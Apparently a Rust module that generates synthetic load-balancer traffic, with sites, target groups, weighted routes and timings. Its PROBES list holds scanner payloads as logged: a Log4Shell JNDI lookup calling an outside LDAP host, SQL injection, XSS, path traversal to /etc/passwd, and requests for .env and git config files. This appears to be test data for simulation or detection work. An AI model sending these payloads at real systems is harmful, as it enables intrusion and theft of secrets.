//! What the load balancers serve: hosts, target groups and routes.

use crate::template::holes;

/// What one kind of load balancer serves.
pub(super) struct Site {
    /// The load balancer's name.
    pub(super) name: &'static str,
    pub(super) host: &'static str,
    pub(super) guard: Guard,
    /// The first is the default rule's.
    pub(super) groups: &'static [Group],
    pub(super) routes: [(u32, Route); ROUTES],
}

/// What stands before the forward to a target.
#[derive(Clone, Copy, PartialEq, Eq)]
pub(super) enum Guard {
    Nothing,
    Firewall,
    /// An identity provider.
    SignIn,
}

/// A target group.
pub(super) struct Group {
    pub(super) name: &'static str,
    /// The priority of the rule that forwards to it.
    pub(super) rule: u16,
    pub(super) targets: Targets,
}

#[derive(Clone, Copy)]
pub(super) enum Targets {
    Instances { count: u64, port: u16 },
    Lambda,
}

/// Requests of one form.
pub(super) struct Route {
    pub(super) method: &'static str,
    /// A template with the holes of [`Hole`].
    pub(super) path: &'static str,
    /// The index of the target group.
    pub(super) group: usize,
    /// The least time that an answer takes; most take about twice as long.
    pub(super) micros: u64,
    /// The usual size of an answer.
    pub(super) bytes: u64,
    pub(super) answers: Answers,
}

/// Which status codes the targets give.
#[derive(Clone, Copy)]
pub(super) enum Answers {
    /// Static content that clients keep.
    Cached,
    Read,
    Write,
}

holes! {
    /// What changes from request to request in a path.
    Hole {
        Item = "item",
        User = "user",
        Order = "uuid",
        Hash = "hash",
        Word = "word",
        Page = "page",
        Day = "day",
    }
}

/// Each site has this many routes.
const ROUTES: usize = 10;

const fn route(
    method: &'static str,
    path: &'static str,
    group: usize,
    micros: u64,
    bytes: u64,
    answers: Answers,
) -> Route {
    Route {
        method,
        path,
        group,
        micros,
        bytes,
        answers,
    }
}

const fn instances(name: &'static str, rule: u16, count: u64, port: u16) -> Group {
    let targets = Targets::Instances { count, port };
    Group {
        name,
        rule,
        targets,
    }
}

use Answers::{Cached, Read, Write};

pub(super) static SITES: [Site; 3] = [
    Site {
        name: "shop",
        host: "shop.example.com",
        guard: Guard::Firewall,
        groups: &[
            instances("shop-web", 0, 6, 8080),
            instances("shop-checkout", 10, 4, 8443),
            instances("shop-search", 20, 3, 9000),
            Group {
                name: "shop-images",
                rule: 30,
                targets: Targets::Lambda,
            },
        ],
        routes: [
            (180, route("GET", "/", 0, 7_000, 18_000, Read)),
            (
                280,
                route("GET", "/products/<item>", 0, 5_500, 14_000, Read),
            ),
            (
                60,
                route(
                    "GET",
                    "/products/<item>?ref=<word>&utm_campaign=<word>-<day>",
                    0,
                    5_500,
                    14_000,
                    Read,
                ),
            ),
            (
                70,
                route(
                    "GET",
                    "/search?q=<word>+<word>&page=<page>",
                    2,
                    55_000,
                    22_000,
                    Read,
                ),
            ),
            (
                160,
                route("GET", "/assets/app.<hash>.js", 0, 1_200, 90_000, Cached),
            ),
            (
                80,
                route("GET", "/assets/site.<hash>.css", 0, 1_200, 24_000, Cached),
            ),
            (
                110,
                route(
                    "GET",
                    "/images/<item>?w=640&fm=webp",
                    3,
                    18_000,
                    40_000,
                    Cached,
                ),
            ),
            (30, route("POST", "/cart/items", 0, 9_000, 600, Write)),
            (
                15,
                route("POST", "/checkout/<uuid>/payment", 1, 150_000, 900, Write),
            ),
            (
                15,
                route(
                    "POST",
                    "/login?next=%2Fproducts%2F<item>",
                    0,
                    60_000,
                    400,
                    Write,
                ),
            ),
        ],
    },
    Site {
        name: "api",
        host: "api.example.net",
        guard: Guard::Nothing,
        groups: &[
            instances("api-events", 0, 5, 8080),
            instances("api-orders", 10, 4, 8080),
            instances("api-users", 20, 4, 8081),
            instances("api-reports", 100, 2, 8090),
        ],
        routes: [
            (300, route("POST", "/v1/events", 0, 2_500, 60, Write)),
            (200, route("GET", "/v1/users/<user>", 2, 3_500, 1_100, Read)),
            (
                110,
                route(
                    "GET",
                    "/v1/users/<user>/orders?limit=50&cursor=<hash>",
                    1,
                    12_000,
                    16_000,
                    Read,
                ),
            ),
            (
                130,
                route("GET", "/v1/orders/<uuid>", 1, 6_000, 2_400, Read),
            ),
            (80, route("POST", "/v1/orders", 1, 25_000, 1_300, Write)),
            (
                30,
                route("PATCH", "/v1/orders/<uuid>", 1, 18_000, 1_300, Write),
            ),
            (
                20,
                route("DELETE", "/v1/users/<user>/sessions", 2, 5_000, 0, Write),
            ),
            (60, route("OPTIONS", "/v1/orders", 1, 400, 0, Read)),
            (
                20,
                route(
                    "GET",
                    "/v1/reports/daily?day=2026-01-<day>&format=csv",
                    3,
                    320_000,
                    400_000,
                    Read,
                ),
            ),
            (
                50,
                route("GET", "/legacy/users/<user>", 2, 4_000, 1_100, Read),
            ),
        ],
    },
    Site {
        name: "admin",
        host: "admin.example.org",
        guard: Guard::SignIn,
        groups: &[
            instances("admin-ui", 0, 2, 3000),
            instances("admin-api", 50, 3, 3001),
        ],
        routes: [
            (150, route("GET", "/", 0, 4_000, 9_000, Read)),
            (
                200,
                route("GET", "/static/<hash>.js", 0, 900, 160_000, Cached),
            ),
            (
                80,
                route("GET", "/static/<hash>.woff2", 0, 900, 48_000, Cached),
            ),
            (
                200,
                route(
                    "GET",
                    "/api/users?page=<page>&sort=-created",
                    1,
                    14_000,
                    12_000,
                    Read,
                ),
            ),
            (
                120,
                route("GET", "/api/users/<user>", 1, 5_000, 2_000, Read),
            ),
            (
                60,
                route("PUT", "/api/users/<user>", 1, 11_000, 2_000, Write),
            ),
            (
                90,
                route("GET", "/api/orders/<uuid>", 1, 7_000, 3_500, Read),
            ),
            (
                20,
                route("POST", "/api/orders/<uuid>/refund", 1, 120_000, 500, Write),
            ),
            (50, route("HEAD", "/api/health", 1, 300, 0, Read)),
            (
                30,
                route(
                    "GET",
                    "/api/search?q=<word>%20<word>",
                    1,
                    80_000,
                    9_000,
                    Read,
                ),
            ),
        ],
    },
];

/// Paths that begin so are rewritten before they are forwarded: to [`REWRITTEN`] and the rest.
pub(super) const LEGACY: &str = "/legacy/";
pub(super) const REWRITTEN: &str = "/v1/";

/// What visitors type.
pub(super) const WORDS: [&str; 16] = [
    "lamp",
    "desk",
    "chair",
    "rug",
    "shelf",
    "mirror",
    "sofa",
    "bed",
    "spring",
    "newsletter",
    "oak",
    "blue",
    "round",
    "k%C3%BCche",
    "sale",
    "garden",
];

/// What scanners ask for, as it is logged.
pub(super) const PROBES: [(u32, &str); 16] = [
    (140, "/wp-login.php"),
    (120, "/.env"),
    (90, "/.git/config"),
    (70, "/xmlrpc.php"),
    (60, "/wp-content/plugins/hello.php"),
    (60, "/admin/.env"),
    (50, "/phpmyadmin/index.php?lang=en"),
    (40, "/actuator/env"),
    (40, "/vendor/phpunit/src/Util/PHP/eval-stdin.php"),
    (
        30,
        "/cgi-bin/luci/;stok=/locale?form=country&operation=write",
    ),
    (30, "/products/1%27%20OR%20%271%27=%271"),
    (30, "/?x=${jndi:ldap://198.51.100.7:1389/a}"),
    (30, "/index.php?s[]=%%32&f={0}"),
    (20, "/search?q=\\\"><script>alert(1)</script>"),
    (20, "/..%2f..%2f..%2fetc%2fpasswd"),
    (20, "/old backup/site.zip"),
];
